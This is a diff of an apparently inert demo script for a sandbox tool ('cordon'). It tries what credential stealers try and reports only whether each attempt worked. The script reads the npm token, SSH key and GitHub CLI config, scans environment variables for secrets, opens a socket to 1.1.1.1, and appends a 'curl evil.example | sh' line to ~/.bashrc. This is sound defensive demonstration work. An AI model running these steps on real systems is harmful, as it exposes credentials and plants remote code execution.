@@ -1,42 +1,42 @@
-// An inert stand-in for a malicious install script or AI-written helper:
-// it tries what real credential stealers try, and reports what it got.
-// Run it with cordon (npm run demo) and every attempt comes back empty.
+// An inert stand-in for a malicious install script or an AI-written helper
+// gone wrong: it tries what real credential stealers (Shai-Hulud and
+// friends) try, and reports what it could get. It never prints a secret,
+// only how many bytes it got. Run it under cordon: `npm run demo`.
 import fs from "node:fs";
-import os from "node:os";
 import net from "node:net";
+import os from "node:os";
+import path from "node:path";
 
-const attempts = [];
-const attempt = (what, fn) => {
+const realHome = process.argv[2] ?? os.homedir();
+const results = [];
+const attempt = async (what, fn) => {
   try {
-    const got = fn();
-    attempts.push([what, got ? `GOT IT: ${String(got).slice(0, 60)}` : "nothing"]);
+    const got = await fn();
+    results.push([what, got ? `GOT IT (${String(got).length} bytes)` : "nothing there"]);
   } catch (error) {
-    attempts.push([what, `blocked (${error.code ?? error.message})`]);
+    results.push([what, `blocked (${error.code ?? error.message})`]);
   }
 };
 
-const home = os.homedir();
-attempt("npm token in ~/.npmrc", () => fs.readFileSync("/root/.npmrc", "utf8"));
-attempt("SSH private key", () => fs.readFileSync(`${process.env.REAL_HOME ?? "/root"}/.ssh/id_rsa`, "utf8"));
-attempt("tokens in the environment", () =>
-  Object.keys(process.env).filter((k) => /TOKEN|KEY|SECRET|PASSWORD/.test(k)).join(",") || undefined);
-attempt("list the home folder", () => fs.readdirSync(home).join(",") || undefined);
-attempt("other users' homes", () => fs.readdirSync("/home").filter((d) => d !== "sandbox").join(",") || undefined);
-attempt("plant a line in ~/.bashrc", () => {
-  fs.appendFileSync(`${home}/.bashrc`, "curl evil.example | sh\n");
-  return "written (to the sandbox's private, throw-away home)";
+await attempt("read ~/.npmrc (npm token)", () => fs.readFileSync(path.join(realHome, ".npmrc"), "utf8"));
+await attempt("read ~/.ssh/id_rsa", () => fs.readFileSync(path.join(realHome, ".ssh/id_rsa"), "utf8"));
+await attempt("read ~/.config/gh/hosts.yml", () => fs.readFileSync(path.join(realHome, ".config/gh/hosts.yml"), "utf8"));
+await attempt("list the real home folder", () => fs.readdirSync(realHome).join(","));
+await attempt("tokens in the environment", () =>
+  Object.keys(process.env).filter((k) => /TOKEN|KEY|SECRET|PASSWORD|AUTH/.test(k)).join(","));
+await attempt("plant a line in ~/.bashrc", () => {
+  fs.appendFileSync(path.join(realHome, ".bashrc"), "\n# curl evil.example | sh\n");
+  return "written";
 });
-attempt("write next to this script", () => {
+await attempt("write next to this script", () => {
   fs.writeFileSync(new URL("./planted.txt", import.meta.url), "x");
   return "written";
 });
-
-const connect = await new Promise((resolve) => {
+await attempt("connect to 1.1.1.1:443", () => new Promise((resolve, reject) => {
   const socket = net.connect({ host: "1.1.1.1", port: 443, timeout: 2000 });
-  socket.on("connect", () => { socket.destroy(); resolve("GOT IT: connected to 1.1.1.1:443"); });
-  socket.on("error", (e) => resolve(`blocked (${e.code})`));
-  socket.on("timeout", () => { socket.destroy(); resolve("blocked (timeout)"); });
-});
-attempts.push(["send data to 1.1.1.1:443", connect]);
+  socket.on("connect", () => { socket.destroy(); resolve("connected"); });
+  socket.on("error", reject);
+  socket.on("timeout", () => { socket.destroy(); reject(Object.assign(new Error("timeout"), { code: "ETIMEDOUT" })); });
+}));
 
-for (const [what, result] of attempts) console.log(`${what.padEnd(28)} ${result}`);
+for (const [what, outcome] of results) console.log(`  ${what.padEnd(30)} ${outcome}`);
